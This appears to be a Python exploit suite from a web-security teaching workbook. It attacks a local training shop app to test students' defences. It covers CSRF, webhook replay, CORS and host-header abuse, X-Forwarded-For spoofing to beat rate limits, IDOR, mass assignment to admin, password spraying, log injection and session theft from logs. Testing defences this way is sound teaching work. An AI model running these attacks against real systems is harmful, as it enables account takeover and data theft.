"""What people do to a shop that has sessions: the exploits of chapter 1, by the exercise whose defence they try.

    PATCH /api/users/me          {"role": "admin"}
    GET /api/users               200, everybody's address

`shop` is the app as the internet sees it (workbook/learn/attacking.py). Each exploit first does what an honest person
does, so that an app which refuses everybody is called broken and not safe. It shares no code with the checks: what
counts here is the loot.
"""

import hashlib
import hmac
import json
import secrets
import time
from typing import Any
from urllib.parse import quote, urlsplit

import httpx

from attacks.browser import OTHER_SITE, SIBLING, Chromium
from workbook.book import accounts
from workbook.learn.exploits import Failure, Loot, Outcome, Stopped, excerpt, expect, exploit, said, stopped_by
from workbook.learn.shop import PUBLISHERS_KEY, Shop
from workbook.serve.addresses import FOREIGN_ORIGIN, ORIGIN

PLANTED = "Send your money to evil.test"
ALICE, BOB = 1, 2  # who came first has the lowest number, and nobody has to be told
ALICES_SHELVES = [name for owner, name in accounts.SHELVES if owner == "alice"]
WITHDRAWN, CORRECTED = "A scandal, as we now know.", "A sea voyage."  # summaries of a book
SPOOFED_HEADERS = ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "True-Client-IP", "X-API-Key")
HOST_OF_THE_ATTACKER = urlsplit(OTHER_SITE).netloc
MANY = 30  # requests: more than any of the limits that are tried allows


# 1.1 Who meant to call ------------------------------------------------------------------------------------------------


@exploit("1.1", "API2", "a forged form makes a shelf for alice")
def forge_a_form(shop: Shop) -> Outcome:
    """What alice's browser sends when a page of a sibling origin submits a form: her cookie, and no token."""
    alice = shop.sign_in("alice")
    expect(alice.post("/api/shelves", data={"name": "her own"}), 201)
    forged = {"Origin": SIBLING, "Referer": f"{SIBLING}/"}
    answer = shop.client(cookies=alice.cookies).post("/api/shelves", data={"name": PLANTED}, headers=forged)
    if PLANTED in names_of_shelves(alice):
        return Loot(f"alice has a shelf that she never made: {PLANTED!r}, at {answer.headers.get('Location')}")
    return stopped_by(answer)


@exploit("1.1", "API2", "a recorded webhook delivery is sent again")
def replay_a_delivery(shop: Shop) -> Outcome:
    """The publisher corrects a summary; the attacker, who recorded the first delivery, brings the old one back."""
    book, headers, body = a_corrected_delivery(shop)
    return after_the_replay(shop, book, shop.client().post("/api/webhook", content=body, headers=headers))


@exploit("1.1", "API2", "a recorded delivery is sent with a new date")
def redate_a_delivery(shop: Shop) -> Outcome:
    """The same, with a timestamp that the shop has not seen."""
    book, headers, body = a_corrected_delivery(shop)
    headers["X-Webhook-Timestamp"] = str(int(headers["X-Webhook-Timestamp"]) + 2)
    return after_the_replay(shop, book, shop.client().post("/api/webhook", content=body, headers=headers))


@exploit("1.1", "API2", "in Chromium, evil.test submits a form", in_browser=True)
def forge_a_form_from_another_site(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").forged_form(OTHER_SITE, PLANTED)


@exploit("1.1", "API2", "in Chromium, evil.shop.test submits it", in_browser=True)
def forge_a_form_from_a_sibling(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").forged_form(SIBLING, PLANTED)


# 1.2 What a browser is told, and which way a request came -------------------------------------------------------------


@exploit("1.2", "API8", "CORS lets any origin read with alice's cookie")
def ask_for_any_origin(shop: Shop) -> Outcome:
    """Ask as a page of each origin would; what the answer allows, a browser hands over."""
    alice = shop.sign_in("alice")
    allowed = expect(alice.get("/api/users/me", headers={"Origin": FOREIGN_ORIGIN}))
    if allowed.headers.get("Access-Control-Allow-Origin") != FOREIGN_ORIGIN:
        raise Failure(f"{FOREIGN_ORIGIN} is an allowed origin, and may not read the answer")
    for origin in (OTHER_SITE, SIBLING, f"{FOREIGN_ORIGIN}.evil.test", FOREIGN_ORIGIN.replace("app.", "evil-"), "null"):
        answer = alice.get("/api/users/me", headers={"Origin": origin})
        allows = answer.headers.get("Access-Control-Allow-Origin")
        if allows == origin and answer.headers.get("Access-Control-Allow-Credentials") == "true":
            return Loot(f"a page of {origin} may read: {excerpt(answer.text)}")
    return Stopped("no other origin is allowed to read, none that looks like an allowed one either")


@exploit("1.2", "API8", "the audit log names another address")
def hide_behind_another_address(shop: Shop) -> Outcome:
    """An innocent address in X-Forwarded-For: whom will they ask, after the next attack?"""
    own, innocent, path = shop.address(), "192.0.2.66", f"/api/{secrets.token_hex(8)}"
    shop.client(own).get(path, headers=dict.fromkeys(SPOOFED_HEADERS, innocent))
    line = next((line for line in shop.log() if path in line), None)
    if line is None:
        raise Failure("the log has no line for a request")
    if own in line:
        return Stopped(f"the log has the attacker's own address, {own}")
    return Loot(f"the attacker was at {own}; the log says: {excerpt(line)}")


@exploit("1.2", "API2", "passwords are guessed behind X-Forwarded-For")
def spray_passwords(shop: Shop) -> Outcome:
    """The limit per address, got round by the same header: one password, tried on many accounts."""
    attacker = shop.stranger()
    names = [f"customer{number}" for number in range(MANY - 1)]
    for guesses, name in enumerate([*names, "bob"], start=1):
        attacker.headers.update(dict.fromkeys(SPOOFED_HEADERS, f"192.0.2.{guesses}"))
        answer = guess(attacker, f"{name}@example.org", accounts.password("bob"))
        if answer.status_code == 429:
            return Stopped(f"429 after {guesses - 1} guesses from one address")
    expect(answer)
    return Loot(f"bob's session, after {MANY} guesses from one address: {cookie(attacker)}")


@exploit("1.2", "API8", "X-Forwarded-Prefix moves links to evil.test")
def poison_the_links(shop: Shop) -> Outcome:
    """The header of a proxy that serves the app under a path. A cache would show the answer to everybody."""
    honest = expect(shop.client().get("/api/books/1")).json()["_links"]["self"]["href"]
    answer = shop.client().get("/api/books/1", headers={"X-Forwarded-Prefix": f"//{HOST_OF_THE_ATTACKER}"})
    link = expect(answer).json()["_links"]["self"]["href"]
    if link != honest:
        return Loot(f"the book says that it is at {link}")
    return Stopped(f"the book stays at {link}")


@exploit("1.2", "API8", "a name of evil.test leads into the shop")
def point_a_name_at_the_shop(shop: Shop) -> Outcome:
    """The attacker's own domain gets the shop's address (DNS rebinding): to a browser all of that is evil.test."""
    return asked_for_another_host(shop, {"Host": HOST_OF_THE_ATTACKER})


@exploit("1.2", "API8", "X-Forwarded-Host gets past the list of hosts")
def hide_the_host(shop: Shop) -> Outcome:
    """The same, where the app knows its hosts, and asks a header for the one that was meant."""
    return asked_for_another_host(shop, {"Host": HOST_OF_THE_ATTACKER, "X-Forwarded-Host": urlsplit(ORIGIN).netloc})


@exploit("1.2", "API8", "in Chromium, evil.test reads alice's account", in_browser=True)
def read_from_another_site(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").cross_origin_read(OTHER_SITE)


@exploit("1.2", "API8", "in Chromium, evil.shop.test reads it", in_browser=True)
def read_from_a_sibling(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").cross_origin_read(SIBLING)


@exploit("1.2", "API8", "in Chromium, evil.test frames alice's shelves", in_browser=True)
def frame_in_another_site(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").framed(OTHER_SITE)


@exploit("1.2", "API8", "in Chromium, evil.shop.test frames them", in_browser=True)
def frame_in_a_sibling(shop: Shop, chromium: Chromium) -> Outcome:
    return chromium.victim(shop, "alice").framed(SIBLING)


# 1.3 Whose it is ------------------------------------------------------------------------------------------------------


@exploit("1.3", "API1", "alice reads bob's shelf, by counting")
def read_shelves_by_counting(shop: Shop) -> Outcome:
    """Ids are small numbers: try them."""
    bobs, alice, found = a_shelf_of_bob(shop), shop.sign_in("alice"), []
    for number in range(1, bobs["id"] + 1):
        answer = alice.get(f"/api/shelves/{number}")
        if answer.status_code == 200 and answer.json()["name"] not in ALICES_SHELVES:
            books = expect(alice.get(f"/api/shelves/{number}/books")).json()["items"]
            found.append(f"{answer.json()['name']!r} with {[book['title'] for book in books]}")
    return Loot(f"alice reads {', '.join(found)}") if found else stopped_by(answer)


@exploit("1.3", "API1", "alice gives bob's shelf another name")
def overwrite_a_shelf(shop: Shop) -> Outcome:
    """Writing, where reading may have been thought of."""
    bobs = a_shelf_of_bob(shop)
    answer = shop.sign_in("alice").patch(f"/api/shelves/{bobs['id']}", json={"name": PLANTED})
    if PLANTED in names_of_shelves(shop.sign_in("bob")):
        return Loot(f"bob's shelf {bobs['name']!r} is called {PLANTED!r}")
    return stopped_by(answer)


@exploit("1.3", "API1", "alice deletes bob's shelf")
def delete_a_shelf(shop: Shop) -> Outcome:
    """A method that is easily forgotten."""
    bobs = a_shelf_of_bob(shop)
    answer = shop.sign_in("alice").delete(f"/api/shelves/{bobs['id']}")
    if bobs["name"] not in names_of_shelves(shop.sign_in("bob")):
        return Loot(f"bob's shelf {bobs['name']!r} is gone")
    return stopped_by(answer)


@exploit("1.3", "API3", "alice reads everybody's password hash")
def harvest_accounts(shop: Shop) -> Outcome:
    """A representation that shows every column shows the next one too."""
    alice, found = shop.sign_in("alice"), []
    seen = [expect(alice.get("/api/users/me")).json()]
    seen += [expect(alice.get(f"/api/users/{number}")).json() for number in range(1, 5)]
    for user in seen:
        secret = [user.get("password_hash"), user.get("email") if user["id"] != ALICE else None]
        found += [text for text in secret if text and text not in found]
    if found:
        return Loot(f"{len(found)} addresses and hashes: {', '.join(found[1:3])}, …")
    return Stopped(f"of others, alice sees: {', '.join(sorted(seen[-1]))}")


@exploit("1.3", "API3", "alice makes herself an administrator")
def become_administrator(shop: Shop) -> Outcome:
    """One property more in a body that may be sent (mass assignment)."""
    alice = shop.sign_in("alice")
    expect(alice.patch("/api/users/me", json={"age": 35}))
    answer = alice.patch("/api/users/me", json={"role": "admin"})
    listed = alice.get("/api/users")
    if listed.status_code == 200:
        users = [f"{user['name']} {user.get('email', '')}".strip() for user in listed.json()["items"]]
        return Loot(f"GET /api/users, for administrators only: {', '.join(users)}")
    return Stopped(f"PATCH {answer.status_code}, and then GET /api/users {said(listed)}")


@exploit("1.3", "API3", "alice plants a shelf into bob's account")
def plant_a_shelf(shop: Shop) -> Outcome:
    """The owner is in the body, for a new shelf or for one that is there."""
    alice = shop.sign_in("alice")
    own = expect(alice.post("/api/shelves", json={"name": "her own"}), 201).json()["id"]
    made = alice.post("/api/shelves", json={"name": PLANTED, "owner_id": BOB})
    given = alice.patch(f"/api/shelves/{own}", json={"name": "A present", "owner_id": BOB})
    bobs = names_of_shelves(shop.sign_in("bob"))
    if planted := [name for name in (PLANTED, "A present") if name in bobs]:
        return Loot(f"bob finds {' and '.join(map(repr, planted))} among his shelves")
    return Stopped(
        f"POST {made.status_code}, PATCH {given.status_code}; bob's shelves are {', '.join(map(repr, bobs))}"
    )


# 1.4 What for ---------------------------------------------------------------------------------------------------------


@exploit("1.4", "API5", "a book is rewritten by nobody at all")
def rewrite_a_book(shop: Shop) -> Outcome:
    """Every method of the catalogue, without signing in: which one has the list of prohibitions forgotten?"""
    admin = shop.sign_in("admin")
    before = expect(admin.patch("/api/books/1", json={"summary": "A sea voyage."})).json()
    attacker = shop.stranger()
    tried = [
        attacker.patch("/api/books/1", json={"title": PLANTED}),
        attacker.put("/api/books/1", json={"title": PLANTED, "author": "evil.test"}),
        attacker.post("/api/books", json={"title": PLANTED, "author": "evil.test"}),
        attacker.delete("/api/books/1"),
    ]
    found = shop.client().get("/api/books/1")
    statuses = ", ".join(f"{answer.request.method} {answer.status_code}" for answer in tried)
    if found.status_code == 404:
        return Loot(f"the book {before['title']!r} is gone ({statuses})")
    if expect(found).json()["title"] != before["title"]:
        return Loot(f"the book {before['title']!r} is now called {found.json()['title']!r} ({statuses})")
    return Stopped(statuses)


@exploit("1.4", "API5", "HEAD gets past a rule for GET")
def ask_with_head(shop: Shop) -> Outcome:
    """The list of users is for administrators; its length is a first thing to know of it."""
    expect(shop.sign_in("admin").head("/api/users"))
    alice = shop.sign_in("alice")
    refused, answer = alice.get("/api/users"), alice.head("/api/users")
    if answer.status_code == 200:
        length = answer.headers.get("Content-Length", "unknown")
        return Loot(f"GET {refused.status_code}, HEAD 200: there is a list, of {length} bytes")
    return stopped_by(answer)


@exploit("1.4", "API5", "the report of the shop, without signing in")
def read_the_report(shop: Shop) -> Outcome:
    """A route that nobody has thought of when the list was made."""
    expect(shop.sign_in("alice").get("/api/reports/catalog"))
    answer = shop.client().get("/api/reports/catalog")
    if answer.status_code == 200:
        report = answer.json()
        return Loot(f"{report['books']} books, {len(report['genres'])} genres: {excerpt(json.dumps(report['genres']))}")
    return stopped_by(answer)


# 1.5 How often --------------------------------------------------------------------------------------------------------


@exploit("1.5", "API2", "one account, a new address each time")
def guess_from_many_addresses(shop: Shop) -> Outcome:
    """The same account from a whole botnet, and its name written in several ways."""
    for guesses in range(1, MANY + 1):
        spelling = ("alice@example.org", "Alice@Example.org", "ALICE@EXAMPLE.ORG")[guesses % 3]
        password = accounts.password("alice") if guesses == MANY else f"alice{guesses}"
        attacker = shop.stranger()
        answer = guess(attacker, spelling, password)
        if answer.status_code == 429:
            return Stopped(f"429 after {guesses - 1} guesses, each from an address of its own")
    expect(answer)
    return Loot(f"alice's password, after {MANY} guesses: {password!r}; her session: {cookie(attacker)}")


@exploit("1.5", "API4", "reports without end, by a header")
def drain_the_report(shop: Shop) -> Outcome:
    """An expensive request, again and again, by a caller who is somebody else each time."""
    alice = shop.sign_in("alice")
    allowed = expect(alice.get("/api/reports/catalog")).headers.get("RateLimit-Policy", "nobody says how many")
    for made in range(1, MANY):
        answer = alice.get("/api/reports/catalog", headers=dict.fromkeys(SPOOFED_HEADERS, f"192.0.2.{made}"))
        if answer.status_code == 429:
            return Stopped(f"429 after {made} reports ({allowed})")
        expect(answer)
    return Loot(f"{MANY} reports in a moment, where 20 an hour are allowed ({allowed})")


# 1.6 What happened ----------------------------------------------------------------------------------------------------


@exploit("1.6", "ASVS 16", "a newline in a path forges a line of the log")
def forge_a_line(shop: Shop) -> Outcome:
    """A path with a newline, and behind it a line like the log's own: somebody signed in, from elsewhere."""
    forged = f"{time.strftime('%Y-%m-%d %H:%M:%S')} login {secrets.token_hex(8)} 192.0.2.66 POST /api/auth/login 200"
    shop.client().get(f"/api/books/1{quote(chr(10) + forged, safe='')}")
    line = next((line for line in shop.log() if forged in line), None)
    if line is None:
        raise Failure("the log has no line for a request")
    if line.startswith(forged):
        return Loot(f"a line of its own in the log: {line}")
    return Stopped(f"the newline stays within a line: …{line[max(0, line.index(forged) - 24) :][:60]}…")


@exploit("1.6", "ASVS 16", "whoever reads the log takes alice's session")
def take_a_session_from_the_log(shop: Shop) -> Outcome:
    """A front end writes the session into an address, as Java servers do. So it is in the log, and in its backups."""
    alice = shop.sign_in("alice")
    token = cookie(alice)
    address = f"/api/shelves;session={token}"
    alice.get(address, headers={"Referer": f"{ORIGIN}{address}", "User-Agent": f"shelf reader (session {token})"})
    text = "\n".join(shop.log())
    if "/api/" not in text:
        raise Failure("the log has no line for a request")
    if token not in text:
        return Stopped("the session stands nowhere in the log")
    thief = shop.stranger(cookies={name: value for name, value in alice.cookies.items() if value in text})
    account = expect(thief.get("/api/users/me")).json()
    return Loot(f"{token} from the log opens the account of {account['name']}, {account.get('email')}")


# What they have in common ---------------------------------------------------------------------------------------------


def a_shelf_of_bob(shop: Shop) -> dict[str, Any]:
    """A shelf that bob has just made, with a book on it, as he sees it."""
    bob = shop.sign_in("bob")
    shelf: dict[str, Any] = expect(bob.post("/api/shelves", json={"name": "For Carol's birthday"}), 201).json()
    expect(bob.put(f"/api/shelves/{shelf['id']}/books/1"), 204)
    expect(bob.get(f"/api/shelves/{shelf['id']}"))
    return shelf


def a_corrected_delivery(shop: Shop) -> tuple[dict[str, Any], dict[str, str], bytes]:
    """A book, and the delivery of a summary of it that the publisher has withdrawn since: its headers and body."""
    new = {"title": "The Voyage Out", "author": "Virginia Woolf", "isbn": "9780141182278"}
    book = expect(shop.sign_in("admin").post("/api/books", json=new), 201).json()
    headers, body = delivered(shop, {"isbn": book["isbn"], "summary": WITHDRAWN})
    delivered(shop, {"isbn": book["isbn"], "summary": CORRECTED})
    return book, headers, body


def delivered(shop: Shop, news: dict[str, str]) -> tuple[dict[str, str], bytes]:
    """What the publisher has just delivered, signed as the shop documents it, or else over the body alone."""
    body, timestamp = json.dumps(news).encode(), str(int(time.time()))
    for signed in (timestamp.encode() + b"." + body, body):
        signature = hmac.new(PUBLISHERS_KEY.encode(), signed, hashlib.sha256).hexdigest()
        headers = {"X-Webhook-Timestamp": timestamp, "X-Webhook-Signature": f"sha256={signature}"}
        headers["Content-Type"] = "application/json"
        answer = shop.client().post("/api/webhook", content=body, headers=headers)
        if answer.is_success:
            return headers, body
    raise Failure(f"an honest delivery to /api/webhook is refused: {said(answer)}")


def after_the_replay(shop: Shop, book: dict[str, Any], answer: httpx.Response) -> Outcome:
    """Whether the summary that was withdrawn is back."""
    summary = expect(shop.client().get(f"/api/books/{book['id']}")).json()["summary"]
    if summary == WITHDRAWN:
        return Loot(f"the withdrawn summary of {book['title']!r} is back: {summary!r}")
    return stopped_by(answer)


def guess(attacker: httpx.Client, email: str, password: str) -> httpx.Response:
    """Try a password; raises Failure when the answer is none that a login gives."""
    answer = attacker.post("/api/auth/login", json={"email": email, "password": password})
    if answer.status_code not in (200, 401, 429):
        raise Failure(f"POST /api/auth/login has to answer 200, 401 or 429 here, and answers {said(answer)}")
    return answer


def cookie(client: httpx.Client) -> str:
    """The session that the client has: the value of its cookie, whatever that is called."""
    values = list(client.cookies.values())
    if not values:
        raise Failure("a login sets no cookie")
    return values[-1]


def asked_for_another_host(shop: Shop, headers: dict[str, str]) -> Outcome:
    """What the shop answers when it is asked for a host that is not its own."""
    expect(shop.client().get("/api/books/1"))
    answer = shop.client().get("/api/books/1", headers=headers)
    if answer.status_code == 200:
        return Loot(f"asked for {headers['Host']}, it answers {excerpt(answer.text)}")
    return stopped_by(answer)


def names_of_shelves(person: httpx.Client) -> list[str]:
    """The names of the shelves that somebody finds in the list."""
    return [shelf["name"] for shelf in expect(person.get("/api/shelves")).json()["items"]]
